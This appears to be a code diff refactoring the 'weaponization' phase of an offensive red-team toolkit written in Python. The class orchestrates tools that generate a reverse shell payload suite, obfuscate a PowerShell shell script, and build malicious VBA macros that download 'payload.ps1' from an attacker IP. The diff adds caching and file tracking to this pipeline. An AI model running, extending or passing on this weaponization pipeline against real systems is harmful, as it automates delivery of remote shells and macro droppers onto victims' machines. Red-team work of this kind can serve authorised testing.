@@ -3,16 +3,32 @@ Phase 2: Weaponization operations
 """
 
 from datetime import datetime
+from pathlib import Path
 
 
 class WeaponizationPhase:
     """Handles payload generation and weaponization"""
     
+    CONFIG_KEYS = ('attacker.ip', 'attacker.port')
+    TOOLS = (
+        '02-weaponization/rt_payload_generator',
+        '02-weaponization/rt_advanced_obfuscator',
+        '02-weaponization/rt_macro_generator',
+    )
+    
     def __init__(self, config, executor, logger):
         self.config = config
         self.executor = executor
         self.logger = logger
     
+    def cache_valid(self, phase_results):
+        """A stored result is only reusable while its payload files exist"""
+        return all(
+            Path(path).exists()
+            for payload in phase_results.get('payloads', [])
+            for path in payload.get('files', [])
+        )
+    
     def execute(self):
         """Execute weaponization phase"""
         self.logger.section_header("PHASE 2: WEAPONIZATION")
@@ -26,26 +42,32 @@ class WeaponizationPhase:
         attacker_port = self.config.get('attacker.port')
         
         # Generate payloads
-        if self._generate_payloads(attacker_ip, attacker_port):
+        files = self._generate_payloads(attacker_ip, attacker_port)
+        if files:
             phase_results['payloads'].append({
                 'type': 'reverse_shell_suite',
                 'location': '02-weaponization/payloads/',
+                'files': files,
                 'generated': True
             })
         
         # Obfuscate payloads
-        if self._obfuscate_payloads():
+        obfuscated = self._obfuscate_payloads()
+        if obfuscated:
             phase_results['payloads'].append({
                 'type': 'obfuscated_powershell',
                 'location': '02-weaponization/payloads/shell_obfuscated.ps1',
+                'files': [obfuscated],
                 'generated': True
             })
         
         # Generate macros
-        if self._generate_macros(attacker_ip):
+        files = self._generate_macros(attacker_ip)
+        if files:
             phase_results['payloads'].append({
                 'type': 'vba_macro',
                 'location': '02-weaponization/macro_*.vba',
+                'files': files,
                 'generated': True
             })
         
@@ -58,32 +80,35 @@ class WeaponizationPhase:
         """Generate reverse shell payloads"""
         self.logger.info("Generating payloads...")
         
-        result = self.executor.run_python_script(
-            '02-weaponization/payload_generator.py',
-            f'{attacker_ip} {attacker_port}'
+        result = self.executor.run_tool(
+            'payload_generator',
+            attacker_ip,
+            attacker_port,
+            output_dir=self.executor.toolkit_path('02-weaponization/payloads')
         )
         
-        return result['success']
+        return result['result'] if result['success'] else []
     
     def _obfuscate_payloads(self):
         """Obfuscate generated payloads"""
         self.logger.info("Obfuscating payloads...")
         
-        result = self.executor.run_python_script(
-            '02-weaponization/advanced_obfuscator.py',
-            '02-weaponization/payloads/shell.ps1'
+        result = self.executor.run_tool(
+            'obfuscator',
+            self.executor.toolkit_path('02-weaponization/payloads/shell.ps1')
         )
         
-        return result['success']
+        return result['result'] if result['success'] else None
     
     def _generate_macros(self, attacker_ip):
         """Generate malicious VBA macros"""
         self.logger.info("Generating malicious macros...")
         
         payload_url = f"http://{attacker_ip}/payload.ps1"
-        result = self.executor.run_python_script(
-            '02-weaponization/macro_generator.py',
-            f'--url {payload_url}'
+        result = self.executor.run_tool(
+            'macro_generator',
+            payload_url=payload_url,
+            output_dir=self.executor.toolkit_path('02-weaponization')
         )
         
-        return result['success']
\ No newline at end of file
+        return result['result'] if result['success'] else []
\ No newline at end of file